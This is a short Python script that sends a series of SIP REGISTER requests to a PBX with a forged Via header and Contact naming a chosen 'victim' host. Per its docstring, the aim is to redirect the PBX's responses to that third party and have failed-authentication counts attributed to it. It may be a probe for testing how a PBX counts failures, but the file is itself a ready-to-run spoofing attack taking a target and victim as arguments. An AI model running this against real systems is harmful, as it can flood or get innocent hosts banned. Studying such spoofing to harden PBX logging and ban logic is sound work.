#!/usr/bin/env python3
"""Sends REGISTERs whose top Via names another host (sent-by and maddr):
the forged Via that would point the PBX's answers at a third party.

usage: forged_via.py PBX VICTIM [COUNT]
One Call-ID, a new branch and CSeq per request, no credentials: the PBX
challenges each, so counted naively they would be a challenge and then
COUNT-1 refused passwords against VICTIM."""
import socket
import sys

pbx, victim = sys.argv[1], sys.argv[2]
count = int(sys.argv[3]) if len(sys.argv) > 3 else 6
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("", 5090))
s.settimeout(0.3)
for i in range(1, count + 1):
    msg = (
        f"REGISTER sip:{pbx} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {victim}:5060;maddr={victim};branch=z9hG4bK-forged-{i}\r\n"
        f"From: <sip:100@{pbx}>;tag=forged\r\n"
        f"To: <sip:100@{pbx}>\r\n"
        f"Call-ID: forged-via@{victim}\r\n"
        f"CSeq: {i} REGISTER\r\n"
        f"Contact: <sip:100@{victim}:5060>\r\n"
        "Max-Forwards: 70\r\n"
        "Content-Length: 0\r\n\r\n"
    )
    s.sendto(msg.encode(), (pbx, 5060))
    try:
        s.recv(4096)
    except socket.timeout:
        pass
